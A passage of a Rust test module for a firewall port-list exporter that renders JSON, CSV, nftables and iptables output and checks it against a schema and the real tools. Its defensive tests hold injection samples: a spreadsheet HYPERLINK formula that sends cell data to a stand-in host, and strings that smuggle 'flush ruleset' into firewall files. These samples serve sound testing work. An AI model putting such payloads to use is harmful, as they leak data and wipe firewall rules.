        ("de", "endpoint-lan", "Ihr Netz"),
        ("en", "endpoint-lan", "Your network"),
        ("de", "endpoint-cloud", "Cloud"),
        ("en", "endpoint-cloud", "Cloud"),
        ("de", "endpoint-mail", "Mailserver"),
        ("en", "endpoint-mail", "Mail servers"),
        ("de", "note-cloud", "Adressen ändern sich."),
        ("en", "note-cloud", "Addresses change."),
        ("de", "function-sip", "SIP"),
        ("en", "function-sip", "SIP"),
        ("de", "function-media", "Sprache, Video"),
        ("en", "function-media", "Voice, video"),
        ("de", "function-mail", "E-Mail"),
        ("en", "function-mail", "Mail, \"relay\""),
    ]);

    fn lang(code: &str) -> Lang {
        Lang::parse(code).expect("a valid code").0
    }

    fn langs() -> Vec<Lang> {
        vec![lang("de"), lang("en")]
    }

    fn parse_list(text: &str) -> PortList {
        let mut sources = SourceMap::new();
        let file = sources.add("data/ports.yaml", text);
        crate::data::ports::parse(&sources, file).unwrap_or_else(|errors| panic!("{errors:#?}"))
    }

    const REAL: &str = include_str!("../data/ports.yaml");

    /// The real labels, through the real catalog.
    fn real_catalog() -> Catalog {
        let languages = [("de", "Deutsch"), ("en", "English")]
            .map(|(code, name)| {
                let (lang, id) = Lang::parse(code).expect("a valid code");
                Language {
                    lang,
                    id,
                    name: name.to_owned(),
                    title: "Docs".to_owned(),
                }
            })
            .to_vec();
        let config = SiteConfig {
            base_url: "https://docs.example.org/".to_owned(),
            theme: "default".to_owned(),
            default_lang: languages[0].lang.clone(),
            languages,
        };
        let mut sources = SourceMap::new();
        let inputs: Vec<MessageInput> = [
            ("de", include_str!("../i18n/de/ports.ftl")),
            ("en", include_str!("../i18n/en/ports.ftl")),
        ]
        .into_iter()
        .map(|(code, text)| MessageInput {
            layer: Layer::Site,
            lang: code.to_owned(),
            input: TextInput {
                relative: "ports.ftl".to_owned(),
                file: sources.add(format!("i18n/{code}/ports.ftl"), text),
            },
        })
        .collect();
        let (catalog, diagnostics) = Catalog::load(&config, &sources, &inputs);
        assert!(diagnostics.is_empty(), "{diagnostics:#?}");
        catalog
    }

    #[test]
    fn small_list_as_json() {
        let list = parse_list(SMALL);
        let expected = r#"{
  "$schema": "ports.schema.json",
  "languages": [
    "de",
    "en"
  ],
  "deployment": null,
  "deployments": [
    {
      "id": "cloud",
      "label": {
        "de": "Cloud",
        "en": "Cloud"
      }
    },
    {
      "id": "onsite",
      "label": {
        "de": "Vor Ort",
        "en": "Onsite"
      }
    }
  ],
  "devices": [
    {
      "id": "desktop",
      "icon": "monitor",
      "label": {
        "de": "Desktop",
        "en": "Desktop"
      }
    },
    {
      "id": "phone",
      "icon": "phone",
      "label": {
        "de": "Telefon",
        "en": "Phone"
      }
    }
  ],
  "endpoints": [
    {
      "id": "lan",
      "icon": "network",
      "label": {
        "de": "Ihr Netz",
        "en": "Your network"
      },
      "hosts": [],
      "note": null
    },
    {
      "id": "cloud",
      "icon": "cloud",
      "label": {
        "de": "Cloud",
        "en": "Cloud"
      },
      "hosts": [],
      "note": {
        "de": "Adressen ändern sich.",
        "en": "Addresses change."
      }
    },
    {
      "id": "mail",
      "icon": "mail",
      "label": {
        "de": "Mailserver",
        "en": "Mail servers"
      },
      "hosts": [
        "mx1.example.net",
        "mx2.example.net"
      ],
      "note": null
    }
  ],
  "rules": [
    {
      "id": "sip",
      "ports": [
        {
          "start": 5061,
          "end": 5061
        }
      ],
      "protocols": [
        "tcp"
      ],
      "devices": [
        "desktop",
        "phone"
      ],
      "function": {
        "id": "function-sip",
        "label": {
          "de": "SIP",
          "en": "SIP"
        }
      },
      "deployments": [
        {
          "deployment": "cloud",
          "direction": "outbound",
          "source": "lan",
          "destination": "cloud"
        },
        {
          "deployment": "onsite",
          "direction": "inbound",
          "source": "cloud",
          "destination": "lan"
        }
      ]
    },
    {
      "id": "media",
      "ports": [
        {
          "start": 30000,
          "end": 35000
        },
        {
          "start": 3478,
          "end": 3478
        }
      ],
      "protocols": [
        "udp",
        "tcp"
      ],
      "devices": [
        "phone"
      ],
      "function": {
        "id": "function-media",
        "label": {
          "de": "Sprache, Video",
          "en": "Voice, video"
        }
      },
      "deployments": [
        {
          "deployment": "cloud",
          "direction": "outbound",
          "source": "lan",
          "destination": "cloud"
        }
      ]
    },
    {
      "id": "mail",
      "ports": [
        {
          "start": 25,
          "end": 25
        },
        {
          "start": 587,
          "end": 587
        }
      ],
      "protocols": [
        "tcp"
      ],
      "devices": [
        "desktop"
      ],
      "function": {
        "id": "function-mail",
        "label": {
          "de": "E-Mail",
          "en": "Mail, \"relay\""
        }
      },
      "deployments": [
        {
          "deployment": "onsite",
          "direction": "outbound",
          "source": "lan",
          "destination": "mail"
        }
      ]
    }
  ]
}
"#;
        assert_eq!(json(&list, &langs(), &SMALL_LABELS, None), expected);
    }

    #[test]
    fn small_list_as_csv() {
        let list = parse_list(SMALL);
        let expected = concat!(
            "rule,deployment,direction,protocol,port_start,port_end,devices,source,destination,hosts,function,function_de,function_en\r\n",
            "sip,cloud,outbound,tcp,5061,5061,desktop phone,lan,cloud,,function-sip,SIP,SIP\r\n",
            "sip,onsite,inbound,tcp,5061,5061,desktop phone,cloud,lan,,function-sip,SIP,SIP\r\n",
            "media,cloud,outbound,udp,30000,35000,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
            "media,cloud,outbound,udp,3478,3478,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
            "media,cloud,outbound,tcp,30000,35000,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
            "media,cloud,outbound,tcp,3478,3478,phone,lan,cloud,,function-media,\"Sprache, Video\",\"Voice, video\"\r\n",
            "mail,onsite,outbound,tcp,25,25,desktop,lan,mail,mx1.example.net mx2.example.net,function-mail,E-Mail,\"Mail, \"\"relay\"\"\"\r\n",
            "mail,onsite,outbound,tcp,587,587,desktop,lan,mail,mx1.example.net mx2.example.net,function-mail,E-Mail,\"Mail, \"\"relay\"\"\"\r\n",
        );
        assert_eq!(csv(&list, &langs(), &SMALL_LABELS, None), expected);
    }

    #[test]
    fn small_list_as_nftables() {
        let list = parse_list(SMALL);
        let expected = r#"# Firewall rules of the port list, generated from data/ports.yaml by tafel.
# Do not edit: change data/ports.yaml and export again.
# Deployments: all.
#
# Each chain accepts the connections of one deployment and direction, matching the
# protocol and destination port only. Host names appear in comments, never as
# addresses: a name would be resolved once, at load time, and addresses change.
#
# Check with `nft -c -f FILE`, load with `nft -f FILE`. Loading again replaces the rules
# of these chains and leaves the rest of the table alone.
#
# The chains have no hook: loading this file changes nothing until a base chain jumps to
# them. nftables jumps only within a table, so add your base chain to `table inet ports`,
# for example in a file loaded after this one:
#
#   table inet ports {
#     chain forward {
#       type filter hook forward priority filter; policy drop;
#       ct state established,related accept
#       iifname "lan0" oifname "wan0" jump cloud_outbound
#     }
#   }
#
# An accept ends a packet's way through this table only: base chains of other tables on
# the same hook still see it.

add table inet ports
add chain inet ports cloud_outbound
flush chain inet ports cloud_outbound
add chain inet ports onsite_outbound
flush chain inet ports onsite_outbound
add chain inet ports onsite_inbound
flush chain inet ports onsite_inbound

table inet ports {
	chain cloud_outbound {
		tcp dport 5061 accept comment "sip: cloud"
		meta l4proto { tcp, udp } th dport { 30000-35000, 3478 } accept comment "media: cloud"
	}

	chain onsite_outbound {
		tcp dport { 25, 587 } accept comment "mail: mx1.example.net mx2.example.net"
	}

	chain onsite_inbound {
		tcp dport 5061 accept comment "sip: lan"
	}
}
"#;
        assert_eq!(nftables(&list, None), expected);
    }

    #[test]
    fn small_list_as_iptables() {
        let list = parse_list(SMALL);
        let expected = r#"# Firewall rules of the port list, generated from data/ports.yaml by tafel.
# Do not edit: change data/ports.yaml and export again.
# Deployments: all.
#
# Each chain accepts the connections of one deployment and direction, matching the
# protocol and destination port only. Host names appear in comments, never as
# addresses: a name would be resolved once, at load time, and addresses change.
#
# For IPv4 and IPv6 alike. Check with `iptables-restore --test --noflush FILE`, load with
#
#   iptables-restore --noflush FILE
#   ip6tables-restore --noflush FILE
#
# Always use --noflush: without it, iptables-restore first empties the whole filter table,
# your own rules included. With it, only the chains below are emptied and filled, so
# loading again replaces their rules and keeps your jumps to them.
#
# The chains do nothing until a chain of yours jumps to them, for example
#
#   iptables -A FORWARD -i lan0 -o wan0 -j PORTS-CLOUD-OUT

*filter
:PORTS-CLOUD-OUT - [0:0]
:PORTS-ONSITE-OUT - [0:0]
:PORTS-ONSITE-IN - [0:0]
-A PORTS-CLOUD-OUT -p tcp --dport 5061 -m comment --comment "sip: cloud" -j ACCEPT
-A PORTS-CLOUD-OUT -p udp -m multiport --dports 30000:35000,3478 -m comment --comment "media: cloud" -j ACCEPT
-A PORTS-CLOUD-OUT -p tcp -m multiport --dports 30000:35000,3478 -m comment --comment "media: cloud" -j ACCEPT
-A PORTS-ONSITE-OUT -p tcp -m multiport --dports 25,587 -m comment --comment "mail: mx1.example.net mx2.example.net" -j ACCEPT
-A PORTS-ONSITE-IN -p tcp --dport 5061 -m comment --comment "sip: lan" -j ACCEPT
COMMIT
"#;
        assert_eq!(iptables(&list, None), expected);
    }

    #[test]
    fn csv_quotes_a_label_with_a_comma_and_a_quote() {
        let list = parse_list(SMALL);
        let csv = csv(&list, &langs(), &SMALL_LABELS, Some(1));
        let mail = csv
            .split("\r\n")
            .find(|row| row.starts_with("mail,"))
            .unwrap();
        assert!(mail.ends_with(",E-Mail,\"Mail, \"\"relay\"\"\""), "{mail}");

        let mut row = String::new();
        let fields = ["plain", "a,b", "say \"hi\"", "two\nlines", "cr\r", ""].map(str::to_owned);
        csv_row(&mut row, &fields);
        assert_eq!(
            row,
            "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\r\",\r\n"
        );
    }

    #[test]
    fn csv_neutralises_cells_a_spreadsheet_would_evaluate() {
        let mut row = String::new();
        let fields = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "a;=1+1",
            "a\t=1+1",
            "5061",
            "x=1",
            "'quoted",
        ]
        .map(str::to_owned);
        csv_row(&mut row, &fields);
        assert_eq!(
            row,
            concat!(
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",",
                "\"'+1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",",
                "\"a;=1+1\",\"a\t=1+1\",5061,x=1,'quoted\r\n"
            )
        );
    }

    #[test]
    fn one_deployment_keeps_only_its_rules_and_usages() {
        let list = parse_list(SMALL);
        let onsite = list.deployment("onsite");
        let value: serde_json::Value =
            serde_json::from_str(&json(&list, &langs(), &SMALL_LABELS, onsite)).unwrap();
        assert_eq!(value["deployment"], "onsite");
        assert_eq!(value["deployments"].as_array().unwrap().len(), 2);
        let rules = value["rules"].as_array().unwrap();
        let ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
        assert_eq!(ids, ["sip", "mail"]);
        for rule in rules {
            let usages = rule["deployments"].as_array().unwrap();
            assert_eq!(usages.len(), 1);
            assert_eq!(usages[0]["deployment"], "onsite");
        }

        let csv = csv(&list, &langs(), &SMALL_LABELS, onsite);
        assert_eq!(csv.lines().count(), 4);
        assert!(
            csv.lines()
                .skip(1)
                .all(|row| row.split(',').nth(1) == Some("onsite"))
        );

        let nft = nftables(&list, onsite);
        assert!(nft.contains("# Deployment: onsite only.\n"));
        assert!(!nft.contains("cloud_outbound"));
        assert!(
            nft.contains("\tchain onsite_outbound {\n")
                && nft.contains("\tchain onsite_inbound {\n")
        );

        let ipt = iptables(&list, onsite);
        assert!(!ipt.contains("PORTS-CLOUD"));
        assert!(ipt.contains(":PORTS-ONSITE-OUT - [0:0]\n:PORTS-ONSITE-IN - [0:0]\n"));
    }

    #[test]
    fn format_names_round_trip() {
        for format in Format::ALL {
            assert_eq!(format.as_str().parse::<Format>(), Ok(format));
            assert_eq!(format.to_string(), format.as_str());
        }
        assert_eq!(
            "nft".parse::<Format>().unwrap_err().to_string(),
            "unknown export format `nft`; use json, csv, nftables or iptables"
        );
    }

    // -----------------------------------------------------------------------------------------
    // The JSON Schema, checked by an independent implementation of draft 2020-12.

    fn schema() -> serde_json::Value {
        serde_json::from_str(&json_schema()).expect("the schema is JSON")
    }

    /// Every way `instance` breaks the schema; hosts are checked as `format: hostname` too.
    fn schema_errors(instance: &serde_json::Value) -> Vec<String> {
        let validator = jsonschema::draft202012::options()
            .should_validate_formats(true)
            .build(&schema())
            .expect("the schema compiles");
        validator
            .iter_errors(instance)
            .map(|error| format!("{}: {error}", error.instance_path()))
            .collect()
    }

    #[test]
    fn the_schema_is_valid_json_schema_2020_12() {
        if let Err(error) = jsonschema::draft202012::meta::validate(&schema()) {
            panic!("{error}");
        }
        assert!(json_schema().ends_with("}\n"));
    }

    #[test]
    fn every_export_matches_the_schema() {
        let catalog = real_catalog();
        for (text, labels) in [(REAL, &catalog as &dyn Labels), (SMALL, &SMALL_LABELS)] {
            let list = parse_list(text);
            let selections = std::iter::once(None).chain((0..list.deployments.len()).map(Some));
            for deployment in selections {
                let export = json(&list, &langs(), labels, deployment);
                let instance: serde_json::Value = serde_json::from_str(&export).unwrap();
                let errors = schema_errors(&instance);
                assert!(errors.is_empty(), "{deployment:?}: {errors:#?}");
            }
        }
    }

    #[test]
    fn the_schema_rejects_what_the_export_never_writes() {
        let list = parse_list(REAL);
        let valid: serde_json::Value =
            serde_json::from_str(&json(&list, &langs(), &real_catalog(), None)).unwrap();
        type Breakage = fn(&mut serde_json::Value);
        let breakages: [(&str, Breakage); 13] = [
            ("port 0", |v| v["rules"][0]["ports"][0]["start"] = 0.into()),
            ("port 65536", |v| {
                v["rules"][0]["ports"][0]["end"] = 65536.into()
            }),
            ("port as text", |v| {
                v["rules"][0]["ports"][0]["end"] = "5061".into()
            }),
            ("unknown protocol", |v| {
                v["rules"][0]["protocols"][0] = "icmp".into()
            }),
            ("unknown direction", |v| {
                v["rules"][0]["deployments"][0]["direction"] = "sideways".into();
            }),
            ("extra rule key", |v| v["rules"][0]["colour"] = "red".into()),
            ("extra top-level key", |v| v["generated"] = "today".into()),
            ("missing note", |v| {
                v["endpoints"][0].as_object_mut().unwrap().remove("note");
            }),
            ("label that is not text", |v| {
                v["devices"][0]["label"]["de"] = 1.into()
            }),
            ("host that is not a DNS name", |v| {
                v["endpoints"][3]["hosts"][0] = "my pascom net".into();
            }),
            ("id with a line break", |v| {
                v["deployments"][0]["id"] = "cloud\nflush ruleset".into();
            }),
            ("rule id starting with a digit", |v| {
                v["rules"][0]["id"] = "2fa".into()
            }),
            ("reference in upper case", |v| {
                v["rules"][0]["deployments"][0]["source"] = "Your-Network".into();
            }),
        ];
        for (what, breakage) in breakages {
            let mut broken = valid.clone();
            breakage(&mut broken);
            assert!(
                !schema_errors(&broken).is_empty(),
                "the schema accepts {what}"
            );
        }
    }

    // -----------------------------------------------------------------------------------------
    // The real port list.

    #[test]
    fn every_real_rule_appears_in_every_format() {
        let list = parse_list(REAL);
        let catalog = real_catalog();
        let selections = std::iter::once(None).chain((0..list.deployments.len()).map(Some));
        for deployment in selections {
            let expected: Vec<&str> = list
                .rules
                .iter()
                .filter(|rule| usages(rule, deployment).next().is_some())
                .map(|rule| rule.id.as_str())
                .collect();
            assert!(!expected.is_empty());

            let value: serde_json::Value =
                serde_json::from_str(&json(&list, &langs(), &catalog, deployment)).unwrap();
            let in_json: Vec<&str> = value["rules"]
                .as_array()
                .unwrap()
                .iter()
                .map(|rule| rule["id"].as_str().unwrap())
                .collect();
            assert_eq!(in_json, expected);

            let csv = csv(&list, &langs(), &catalog, deployment);
            let mut in_csv: Vec<&str> = csv
                .lines()
                .skip(1)
                .map(|row| row.split(',').next().unwrap())
                .collect();
            in_csv.dedup();
            assert_eq!(in_csv, expected);

            let nft = nftables(&list, deployment);
            let ipt = iptables(&list, deployment);
            for id in &expected {
                assert!(nft.contains(&format!("accept comment \"{id}: ")), "{id}");
                assert!(ipt.contains(&format!("--comment \"{id}: ")), "{id}");
            }
        }
    }

    #[test]
    fn a_changed_port_reaches_every_format() {
        let catalog = real_catalog();
        let before = parse_list(REAL);
        assert_eq!(REAL.matches("ports: 5061").count(), 1);
        let after = parse_list(&REAL.replace("ports: 5061", "ports: 5062"));
        for format in Format::ALL {
            let old = format.render(&before, &langs(), &catalog, None);
            let new = format.render(&after, &langs(), &catalog, None);
            assert!(old.contains("5061") && !old.contains("5062"), "{format}");
            assert!(new.contains("5062"), "{format}");
            assert!(!new.contains("5061"), "{format}: 5061 is still there");
        }
    }

    #[test]
    fn real_labels_come_from_the_catalog() {
        let list = parse_list(REAL);
        let csv = csv(&list, &langs(), &real_catalog(), None);
        assert!(csv.contains(",function-ldaps,\"LDAPS, Telefonbuch\",\"LDAPS, phone book\"\r\n"));
        assert!(!csv.contains("30.000") && !csv.contains("30,000"));
    }

    // -----------------------------------------------------------------------------------------
    // Awkward data: names to shorten, long comments, many ports.

    const AWKWARD: &str = "\
deployments:
  on-site: { label: a }
  a-very-long-deployment-name-indeed: { label: c }
  a-very-long-deployment-name-too: { label: b }
devices:
  pc: { icon: monitor, label: d }
endpoints:
  lan: { icon: network, label: e }
  far:
    icon: globe
    label: f
    hosts: [a1234567890.example.net, b1234567890.example.net, c1234567890.example.net,
            d1234567890.example.net, e1234567890.example.net]
rules:
  - id: say-hello-to-the-far-side
    ports: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 100-200, 300-400]
    protocols: [udp, tcp]
    devices: [pc]
    function: g
    deployments:
      on-site: { direction: outbound, source: lan, destination: far }
      a-very-long-deployment-name-indeed: { direction: outbound, source: lan, destination: lan }
      a-very-long-deployment-name-too: { direction: inbound, source: far, destination: lan }
";

    #[test]
    fn chain_names_are_clean_unique_and_short() {
        let mut list = parse_list(AWKWARD);
        assert_eq!(
            nft_chain_names(&list),
            [
                "on_site",
                "a_very_long_deployment_name_indeed",
                "a_very_long_deployment_name_too"
            ]
        );
        assert_eq!(
            iptables_chain_names(&list),
            ["ON-SITE", "A-VERY-LONG-DEPLOY", "A-VERY-LONG-DEPL-2"]
        );
        let ipt = iptables(&list, None);
        assert!(ipt.contains(":PORTS-A-VERY-LONG-DEPLOY-OUT - [0:0]\n"));
        assert!(ipt.contains(":PORTS-A-VERY-LONG-DEPL-2-IN - [0:0]\n"));
        assert_eq!("PORTS-A-VERY-LONG-DEPLOY-OUT".len(), IPTABLES_CHAIN_MAX);

        // The data checks keep ids from starting with a digit; a list built without them still
        // gets names nft accepts, and names that stay apart.
        list.deployments[0].id = "2024".to_owned();
        list.deployments[1].id = "on_site".to_owned();
        list.deployments[2].id = "on-site".to_owned();
        assert_eq!(nft_chain_names(&list), ["_2024", "on_site", "on_site_2"]);
        assert_eq!(
            iptables_chain_names(&list),
            ["2024", "ON-SITE", "ON-SITE-2"]
        );
        assert!(nftables(&list, None).contains("\tchain _2024_outbound {\n"));
    }

    #[test]
    fn comments_are_plain_ascii_and_short() {
        let list = parse_list(AWKWARD);
        let comment = rule_comment(&list.rules[0], &list.endpoints[1]);
        assert_eq!(comment.len(), COMMENT_MAX);
        assert!(comment.starts_with("say-hello-to-the-far-side: a1234567890.example.net "));
        assert!(comment.ends_with("..."));
        assert_eq!(
            rule_comment(&list.rules[0], &list.endpoints[0]),
            "say-hello-to-the-far-side: lan"
        );
    }

    #[test]
    fn multiport_takes_at_most_15_ports_a_range_counting_two() {
        let ranges = |spec: &[(u16, u16)]| -> Vec<PortRange> {
            spec.iter()
                .map(|&(start, end)| PortRange { start, end })
                .collect()
        };
        let sizes = |ports: &[PortRange]| -> Vec<usize> {
            multiport_groups(ports)
                .iter()
                .map(|group| group.len())
                .collect()
        };
        let singles: Vec<(u16, u16)> = (1..=16).map(|port| (port, port)).collect();
        assert_eq!(sizes(&ranges(&singles[..15])), [15]);
        assert_eq!(sizes(&ranges(&singles)), [15, 1]);
        let mut fourteen_and_a_range = singles[..14].to_vec();
        fourteen_and_a_range.push((100, 200));
        assert_eq!(sizes(&ranges(&fourteen_and_a_range)), [14, 1]);
        assert_eq!(sizes(&ranges(&[(1, 2); 8])), [7, 1]);

        let list = parse_list(AWKWARD);
        let ipt = iptables(&list, Some(0));
        let lines: Vec<&str> = ipt.lines().filter(|line| line.starts_with("-A ")).collect();
        let comment = "-m comment --comment \"say-hello-to-the-far-side: a1234567890.example.net";
        assert_eq!(lines.len(), 4, "{ipt}");
        assert!(lines[0].starts_with(&format!(
            "-A PORTS-ON-SITE-OUT -p udp -m multiport --dports 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15 {comment}"
        )));
        assert!(lines[1].starts_with(&format!(
            "-A PORTS-ON-SITE-OUT -p udp -m multiport --dports 16,100:200,300:400 {comment}"
        )));
        assert!(lines[2].starts_with("-A PORTS-ON-SITE-OUT -p tcp -m multiport --dports 1,2,"));
    }

    // -----------------------------------------------------------------------------------------
    // Hostile text: whatever a list holds, it adds no line to a firewall file.

    /// What ends a line, a comment, a quoted string, a statement or a block in nft or
    /// iptables-restore, or hides text from a reader: line breaks of every kind, quotes,
    /// backslashes, `;`, braces, `#`, NUL, a tab, shell characters and a bidirectional override.
    const HOSTILE: &str =
        "\nflush ruleset\r\n\"; } { # \\ ' \u{85}\u{2028}\u{2029}\0\t`$\u{202e}drop";

    /// [`HOSTILE`] as a firewall file may show it: letters, digits and spaces kept, every other
    /// character one `_`.
    const HOSTILE_CLEANED: &str = "_flush ruleset____ _ _ _ _ _ ________drop";

    /// [`SMALL`] with `suffix` appended to every text of the list (ids, host names, icons and
    /// label ids), built without the data checks, which would reject it.
    fn small_with(suffix: &str) -> PortList {
        let mut list = parse_list(SMALL);
        let hostile = |text: &mut String| text.push_str(suffix);
        for deployment in &mut list.deployments {
            hostile(&mut deployment.id);
            hostile(&mut deployment.label.id);
        }
        for device in &mut list.devices {
            hostile(&mut device.id);
            hostile(&mut device.icon);
            hostile(&mut device.label.id);
        }
        for endpoint in &mut list.endpoints {
            hostile(&mut endpoint.id);
            hostile(&mut endpoint.icon);
            hostile(&mut endpoint.label.id);
            endpoint.hosts.iter_mut().for_each(hostile);
            if let Some(note) = &mut endpoint.note {
                hostile(&mut note.id);
            }
        }
        for rule in &mut list.rules {
            hostile(&mut rule.id);
            hostile(&mut rule.function.id);
        }
        list
    }

    /// The lines a firewall tool acts on: neither comments nor blank.
    fn rule_lines(export: &str) -> Vec<&str> {
        export
            .lines()
            .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
            .collect()
    }

    #[test]
    fn firewall_text_keeps_only_plain_ascii() {
        for c in (0..=0x10ffff).filter_map(char::from_u32) {
            let text = firewall_text(&c.to_string());
            let kept = c.is_ascii_alphanumeric() || " .:,_-/+=@()".contains(c);
            assert_eq!(text, if kept { c.to_string() } else { "_".to_owned() });
        }
        assert_eq!(firewall_text(HOSTILE), HOSTILE_CLEANED);
    }

    #[test]
    fn hostile_text_adds_no_line_to_a_firewall_file() {
        let hostile = small_with(HOSTILE);
        let clean = small_with(HOSTILE_CLEANED);
        type Render = fn(&PortList, Option<usize>) -> String;
        let formats: [(&str, Render); 2] = [("nftables", nftables), ("iptables", iptables)];
        for (format, render) in formats {
            for deployment in [None, Some(0), Some(1)] {
                let export = render(&hostile, deployment);
                let expected = render(&clean, deployment);
                let what = format!("{format}, {deployment:?}");
                assert!(
                    export
                        .chars()
                        .all(|c| c == '\n' || c == '\t' || (' '..='~').contains(&c)),
                    "{what}: {export:?}"
                );
                assert_eq!(export.lines().count(), expected.lines().count(), "{what}");
                let rules = rule_lines(&expected);
                assert!(!rules.is_empty());
                for line in export.lines() {
                    assert!(
                        line.is_empty() || line.starts_with('#') || rules.contains(&line),
                        "{what}: {line:?} is neither a comment nor a rule of the clean list"
                    );
                }
                assert_eq!(rule_lines(&export), rules, "{what}");
            }
        }
        assert!(
            nftables(&hostile, Some(0))
                .contains("\n# Deployment: cloud_flush ruleset____ _ _ _ _ _ ________drop only.\n")
        );
    }

    // -----------------------------------------------------------------------------------------
    // The real tools. Each check is skipped, saying so, where the tool is missing, except under
    // CI (`CI=true`): `.ci/run` installs the tools, so a missing one there is a broken setup
    // that must not pass as green. Checking needs root (CAP_NET_ADMIN): nft asks the kernel,
    // iptables-restore --test builds the rules through netlink too.

    /// Whether a missing tool fails the test instead of skipping it.
    fn tools_required() -> bool {
        std::env::var("CI").is_ok_and(|value| value == "true")
    }

    /// The path of a system tool, or `None` after saying it is not installed.
    ///
    /// # Panics
    ///
    /// If the tool is missing under CI.
    fn tool(name: &str) -> Option<PathBuf> {
        let path = std::env::var_os("PATH").unwrap_or_default();
        let found = std::env::split_paths(&path)
            .chain(["/usr/sbin", "/sbin"].map(PathBuf::from))
            .map(|dir| dir.join(name))
            .find(|candidate| candidate.is_file());
        if found.is_none() {
            assert!(
                !tools_required(),
                "{name} is not installed, and CI=true needs it"
            );
            eprintln!("skipping: {name} not installed");
        }
        found
    }

    #[test]
    fn a_missing_tool_skips_except_under_ci() {
        let outcome = std::panic::catch_unwind(|| tool("tafel-no-such-firewall-tool"));
        if tools_required() {
            assert!(outcome.is_err(), "CI=true, yet a missing tool was skipped");
        } else {
            assert_eq!(outcome.ok(), Some(None));
        }
    }

    /// Runs `program` with `input` on stdin; `None` after saying so if it lacks the privileges.
    fn run(program: &Path, args: &[&str], input: &str) -> Option<Output> {
        let mut child = Command::new(program)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|error| panic!("cannot start {}: {error}", program.display()));
        child
            .stdin
            .take()
            .expect("stdin is piped")
            .write_all(input.as_bytes())
            .expect("the tool reads its input");
        let output = child.wait_with_output().expect("the tool ends");
        let stderr = String::from_utf8_lossy(&output.stderr);
        if !output.status.success()
            && (stderr.contains("Operation not permitted") || stderr.contains("must be root"))
        {
            assert!(
                !tools_required(),
                "{} needs root (CAP_NET_ADMIN), and CI=true needs the check: {stderr}",
                program.display()
            );
            eprintln!(
                "skipping: {} needs root (CAP_NET_ADMIN) to check rules: {stderr}",
                program.display()
            );
            return None;
        }
        Some(output)
    }

    fn assert_accepted(what: &str, output: &Output, input: &str) {
        assert!(
            output.status.success(),
            "{what} rejected the export ({}):\n{}\n--- the export ---\n{input}",
            output.status,
            String::from_utf8_lossy(&output.stderr)
        );
    }

    /// Every list the firewall tests feed the tools: the real one, whole and per deployment, the
    /// small and awkward ones, and the small one with hostile text in every value.
    fn firewall_cases() -> Vec<(String, PortList, Option<usize>)> {
        let mut cases = Vec::new();
        let lists = [
            ("real", parse_list(REAL)),
            ("small", parse_list(SMALL)),
            ("awkward", parse_list(AWKWARD)),
            ("hostile", small_with(HOSTILE)),
        ];
        for (name, list) in lists {
            cases.push((format!("{name}, all deployments"), list.clone(), None));
            for index in 0..list.deployments.len() {
                let label = format!("{name}, deployment {index}");
                cases.push((label, list.clone(), Some(index)));
            }
        }
        cases
    }

    #[test]
    fn nft_accepts_the_exports() {
        let Some(nft) = tool("nft") else { return };
        for (case, list, deployment) in firewall_cases() {
            let export = nftables(&list, deployment);
            let mut file = tempfile::NamedTempFile::new().unwrap();
            file.write_all(export.as_bytes()).unwrap();
            let path = file.path().to_str().unwrap();
            let Some(output) = run(&nft, &["-c", "-f", path], "") else {
                return;
            };
            assert_accepted(&format!("nft -c -f ({case})"), &output, &export);
        }
    }

    #[test]
    fn iptables_restore_accepts_the_exports() {
        for program in ["iptables-restore", "ip6tables-restore"] {
            let Some(restore) = tool(program) else {
                continue;
            };
            for (case, list, deployment) in firewall_cases() {
                let export = iptables(&list, deployment);
                for args in [&["--test"][..], &["--test", "--noflush"]] {
                    let Some(output) = run(&restore, args, &export) else {
                        return;
                    };
                    let what = format!("{program} {} ({case})", args.join(" "));
                    assert_accepted(&what, &output, &export);
                }
            }
        }
    }

    /// Loads the real exports into a fresh network namespace (never the machine's own firewall),
    /// next to rules of an administrator, twice: the second load must replace the exported
    /// chains' rules and keep everything else, as the header comments promise.
    #[test]
    fn loading_again_replaces_only_the_exported_rules() {
        let (Some(unshare), Some(_), Some(_)) =
            (tool("unshare"), tool("nft"), tool("iptables-restore"))
        else {
            return;
        };
        let namespace_works = Command::new(&unshare)
            .args(["--net", "true"])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|status| status.success());
        if !namespace_works {
            eprintln!("skipping: cannot make a network namespace (needs root)");
            return;
        }
        let list = parse_list(REAL);
        let nft_export = nftables(&list, None);
        let ipt_export = iptables(&list, None);
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("ports.nft"), &nft_export).unwrap();
        std::fs::write(dir.path().join("ports.rules"), &ipt_export).unwrap();
        std::fs::write(
            dir.path().join("admin.nft"),
            "table inet ports {\n\tchain forward {\n\t\ttype filter hook forward priority filter; \
             policy accept;\n\t\tjump cloud_outbound\n\t}\n}\n",
        )
        .unwrap();
        let script = "set -e
            iptables -A FORWARD -j DROP
            iptables-restore --noflush ports.rules
            iptables -I FORWARD -j PORTS-CLOUD-OUT
            iptables-restore --noflush ports.rules
            iptables-save -t filter
            echo '=====' 
            nft -f ports.nft
            nft -f admin.nft
            nft -f ports.nft
            nft list table inet ports";
        let mut search = std::env::var_os("PATH").unwrap_or_default();
        search.push(":/usr/sbin:/sbin");
        let output = Command::new(&unshare)
            .args(["--net", "sh", "-c", script])
            .current_dir(dir.path())
            .env("PATH", search)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert!(
            output.status.success(),
            "{}\n{stdout}",
            String::from_utf8_lossy(&output.stderr)
        );
        let (saved, listed) = stdout.split_once("=====").unwrap();

